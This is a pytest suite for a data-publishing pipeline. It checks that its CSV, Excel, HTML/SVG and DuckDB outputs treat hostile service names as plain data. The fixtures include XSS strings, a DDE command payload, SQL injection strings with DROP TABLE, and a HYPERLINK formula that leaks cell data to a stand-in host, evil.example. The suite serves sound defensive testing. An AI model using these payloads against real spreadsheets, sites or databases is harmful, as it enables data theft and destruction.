"""Injection-safe outputs: text that would run as a spreadsheet formula is quoted in CSV, HTML shows markup as
text (checked in Chromium), and SQL carries data only as bound parameters, so quotes and `'; DROP TABLE` pass
through intact."""

from __future__ import annotations

import re
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from expectations.canonical import CANONICAL_MODELS, CANONICAL_TABLES, STAGED_MODELS, columns, empty_frame
from outputs.dataset import write_tables
from outputs.safe_text import csv_text, neutralised, neutralised_frame
from transforms.consolidate import PartnerInfo, consolidate, service_id

SCRIPT = "<script>alert(1)</script>"
IMAGE = '<img src=x onerror="alert(2)">'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DROP = "O'Brien \"ward\"; '); DROP TABLE services; --"
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-quic",
                 "--no-first-run", "--disable-component-update", "--disable-sync"]


@pytest.mark.parametrize("text,expected", [
    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-5", "-5"), ("+3.5", "+3.5"), ("Care at home", "Care at home"),
    ("a=b", "a=b"), ("", ""),
])
def test_text_that_would_run_as_a_formula_is_quoted(text: str, expected: str) -> None:
    assert neutralised(text) == expected


def test_only_text_cells_change() -> None:
    frame = pd.DataFrame({"name": ["=1", "ok", None], "value": [-1.0, 2.0, None], "n": [1, 2, 3]})
    out = neutralised_frame(frame)
    assert out["name"].tolist()[:2] == ["'=1", "ok"] and pd.isna(out["name"].iloc[2])
    assert out["value"].tolist()[:2] == [-1.0, 2.0]
    assert frame["name"].tolist()[0] == "=1"  # the input is not changed
    untouched = pd.DataFrame({"name": ["a", "b"]})
    assert neutralised_frame(untouched) is untouched


@pytest.mark.parametrize("dtype", ["str", "string", "object"])
def test_every_kind_of_text_column_is_neutralised_as_cell_by_cell(dtype: str) -> None:
    texts = ["=1", "-5", "+3.5", "a=b", "\t=1", "", None, "@x", "-x", "-5\n"]
    frame = pd.DataFrame({"text": pd.Series(texts, dtype=dtype), "mixed": pd.Series([*texts[:-1], -7], dtype=object)})
    out = neutralised_frame(frame)
    for column in frame.columns:
        expected = [None if pd.isna(v) else neutralised(v) for v in frame[column]]
        assert [None if pd.isna(v) else v for v in out[column]] == expected


def test_columns_of_dates_or_numbers_are_untouched_and_text_among_them_is_still_found() -> None:
    day = date(2025, 4, 1)
    frame = pd.DataFrame({"dates": pd.Series([day, None, day], dtype=object),
                          "numbers": pd.Series([1, -2.5, None], dtype=object),
                          "dates_and_text": pd.Series([day, "=HYPERLINK(1)", "-1"], dtype=object)})
    out = neutralised_frame(frame)
    assert out["dates"].tolist()[::2] == [day, day] and out["numbers"].tolist()[:2] == [1, -2.5]
    assert out["dates_and_text"].tolist() == [day, "'=HYPERLINK(1)", "-1"]


FLOATS = st.one_of(st.floats(allow_nan=True, allow_infinity=True),
                   st.sampled_from([0.0, -0.0, 0.1 + 0.2, 1e16, 5e-324]))
DATES = st.one_of(st.none(), st.dates(min_value=date(1900, 1, 1), max_value=date(2100, 12, 31)))
TEXTS = st.one_of(st.none(), st.sampled_from(["=1", "-5", "a,b", 'say "hi"', "x\ny", "", "@x"]), st.text(max_size=5))


@settings(max_examples=150, deadline=None)
@given(st.lists(st.tuples(FLOATS, DATES, TEXTS, st.integers(-10**12, 10**12)), max_size=12))
def test_csv_text_is_what_the_csv_writer_makes_of_the_neutralised_frame(rows: list[tuple[Any, ...]]) -> None:
    frame = pd.DataFrame({"value": pd.Series([r[0] for r in rows], dtype="float64"),
                          "period_start": pd.Series([r[1] for r in rows], dtype=object),
                          "name": pd.Series([r[2] for r in rows], dtype="str"),
                          "count": pd.Series([r[3] for r in rows], dtype="int64")})
    written = neutralised_frame(frame).to_csv(index=False, float_format="%.15g", lineterminator="\n")
    assert csv_text(frame) == written


def test_csv_tables_are_neutralised_and_parquet_keeps_the_text(tmp_path: Path) -> None:
    tables = {t: empty_frame(CANONICAL_MODELS[t]) for t in CANONICAL_TABLES}
    names = [FORMULA, "@SUM(1)", "Day centre", SCRIPT]
    tables["services"] = pd.DataFrame({
        "service_id": [f"svc_{i:012x}" for i in range(4)], "name": names, "organisation_id": "org_000000000000",
        "lane": "acute", "source_id": "s", "source_ids": "s",
    })
    write_tables(tmp_path, tables)
    published = pd.read_csv(tmp_path / "services.csv")
    assert published["name"].tolist() == ["'" + FORMULA, "'@SUM(1)", "Day centre", SCRIPT]
    assert pd.read_parquet(tmp_path / "services.parquet")["name"].tolist() == names


def staged(table: str, rows: list[dict[str, object]]) -> pd.DataFrame:
    frame = pd.DataFrame(rows, columns=columns(STAGED_MODELS[table]))
    frame["row_number"] = range(2, 2 + len(frame))
    frame["source_id"] = "s"
    return STAGED_MODELS[table].validate(frame)


def test_quotes_and_drop_table_pass_through_consolidation_intact() -> None:
    april = pd.Timestamp("2025-04-01")
    con = duckdb.connect()
    rows = {
        "organisations": [],
        "services": [{"partner": "nhs", "service_key": DROP, "name": DROP, "lane": "acute"},
                     {"partner": "nhs", "service_key": "B'", "name": "Robert'); DROP TABLE activity;--",
                      "lane": "acute", "same_as": None}],
        "activity": [{"service_ns": "nhs", "service_key": DROP, "period_start": april, "period_end": april,
                      "measure": "attendances", "value": 7.0}],
        "flows": [{"from_ns": "nhs", "from_key": DROP, "to_ns": "nhs", "to_key": "nhs:B'", "period_start": april,
                   "period_end": april, "measure": "referrals", "value": 9.0}],
        "initiatives": [{"partner": "nhs", "initiative_key": DROP, "name": DROP, "services": "B'"}],
    }
    for table, table_rows in rows.items():
        con.register("frame", staged(table, table_rows))
        con.execute(f"CREATE TABLE staged_{table} AS SELECT * FROM frame")
        con.unregister("frame")
    consolidate(con, {"nhs": PartnerInfo("NHS", "nhs")}, {"s": "s.csv"})
    services = con.table("services").df().set_index("service_id")
    assert services.loc[service_id("nhs", DROP), "name"] == DROP
    assert services.loc[service_id("nhs", "B'"), "name"] == "Robert'); DROP TABLE activity;--"
    assert con.execute("SELECT value FROM activity").fetchall() == [(7.0,)]
    assert con.execute("SELECT from_service_id, to_service_id, value FROM flows").fetchall() == [
        (service_id("nhs", DROP), service_id("nhs", "B'"), 9.0)]
    assert con.table("consolidation_rejects").df().empty


MALICIOUS_MAP = """
map_id = "inject"
title = "Injection map"
population = "adults"
[area]
code = "S37000001"
name = "Inject"
[period]
start = "2025-04"
end = "2025-04"
[[lanes]]
id = "acute"
label = "Acute"
colour = "#6fa8dc"
[partners.nhs]
name = "NHS <b>Inject</b>"
sector = "nhs"
[[sources]]
id = "services"
partner = "nhs"
kind = "csv"
location = "extracts/services.csv"
table = "services"
[[sources]]
id = "flows"
partner = "nhs"
kind = "csv"
location = "extracts/flows.csv"
table = "flows"
constants = { measure = "referrals" }
[[sources]]
id = "activity"
partner = "nhs"
kind = "csv"
location = "extracts/activity.csv"
table = "activity"
constants = { measure = "attendances" }
"""


def _csv(rows: list[list[str]]) -> str:
    import csv
    import io

    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


@pytest.fixture(scope="module")
def malicious_version(tmp_path_factory: pytest.TempPathFactory, prefect_server: None) -> Path:
    """A published version whose services are named with markup, a formula and SQL (one run for the module)."""
    from flows.refresh import refresh_map

    tmp_path = tmp_path_factory.mktemp("inject")
    (tmp_path / "extracts").mkdir()
    services = [["service_key", "name", "lane"], ["S1", SCRIPT, "acute"], ["S2", IMAGE, "acute"],
                ["S3", FORMULA, "acute"], [DROP, DROP, "acute"]]
    (tmp_path / "extracts" / "services.csv").write_text(_csv(services))
    flows = [["from_key", "to_key", "period", "value"], ["S1", "S2", "2025-04", "40"], ["S2", "S3", "2025-04", "30"],
             ["S3", DROP, "2025-04", "20"], [DROP, "S1", "2025-04", "10"]]
    (tmp_path / "extracts" / "flows.csv").write_text(_csv(flows))
    activity = [["service_key", "period", "value"], ["S1", "2025-04", "100"], [DROP, "2025-04", "50"]]
    (tmp_path / "extracts" / "activity.csv").write_text(_csv(activity))
    (tmp_path / "ism.toml").write_text(MALICIOUS_MAP)
    return Path(refresh_map(str(tmp_path / "ism.toml")).path)


def test_a_malicious_map_publishes_its_names_as_data(malicious_version: Path) -> None:
    version = malicious_version
    csv_names = pd.read_csv(version / "services.csv")["name"].tolist()
    assert sorted(csv_names) == sorted([SCRIPT, IMAGE, "'" + FORMULA, DROP])
    assert sorted(pd.read_parquet(version / "services.parquet")["name"]) == sorted([SCRIPT, IMAGE, FORMULA, DROP])
    with duckdb.connect(str(version / "map.duckdb"), read_only=True) as con:
        assert con.execute("SELECT count(*) FROM services WHERE name = ?", [DROP]).fetchone() == (1,)
        tables = {row[0] for row in con.execute("SELECT table_name FROM information_schema.tables").fetchall()}
        assert set(CANONICAL_TABLES) <= tables
    flows = pd.read_csv(version / "flows.csv")
    assert sorted(flows["value"]) == [10, 20, 30, 40]
    for book in version.rglob("*.xlsx"):
        with zipfile.ZipFile(book) as archive:
            assert not any(b"<f>" in archive.read(name) for name in archive.namelist()), f"{book}: a formula cell"
        cells = [c.value for ws in openpyxl.load_workbook(book).worksheets for row in ws.iter_rows() for c in row]
        assert any(isinstance(v, str) and FORMULA in v for v in cells)


def test_html_outputs_show_markup_as_text_in_chromium(malicious_version: Path) -> None:
    from playwright.sync_api import sync_playwright

    pages = sorted(p for p in malicious_version.rglob("*") if p.suffix in (".html", ".svg")
                   and "gx" not in p.relative_to(malicious_version).parts)  # GX's own Data Docs: not ours
    assert malicious_version / "diagrams" / "poster.svg" in pages
    showing_names = {"diagrams/poster.svg", "diagrams/map.html"}
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=CHROMIUM_ARGS)
        try:
            for path in pages:
                page = browser.new_page()
                page.route("**/*", lambda route: route.abort() if not route.request.url.startswith("file:")
                           else route.continue_())
                dialogs: list[str] = []
                page.on("dialog", lambda dialog, seen=dialogs: (seen.append(dialog.message), dialog.dismiss()))
                page.goto(path.as_uri(), wait_until="load")
                page.wait_for_timeout(200)
                name = str(path.relative_to(malicious_version))
                assert dialogs == [], f"{name}: a dialog fired: {dialogs}"
                # data may sit inside a script as escaped JSON; markup from the data would be a script of its own
                # (`alert(1)` alone) or an element carrying the onerror handler
                injected = page.evaluate("""() => [
                    ...[...document.querySelectorAll('script')].filter(s => s.textContent.trim() === 'alert(1)'),
                    ...document.querySelectorAll('[onerror]')].length""")
                assert injected == 0, f"{name}: markup from the data became elements"
                # diagrams wrap long names over lines: compare the text with its white space taken out
                text = re.sub(r"\s+", "", page.evaluate("() => document.documentElement.textContent"))
                if name in showing_names or SCRIPT in text:
                    assert SCRIPT in text, f"{name}: the service name is not shown as text"
                    shown = page.get_by_text("<script>", exact=False)
                    assert any(shown.nth(i).is_visible() for i in range(shown.count())), f"{name}: name not visible"
                page.close()
        finally:
            browser.close()
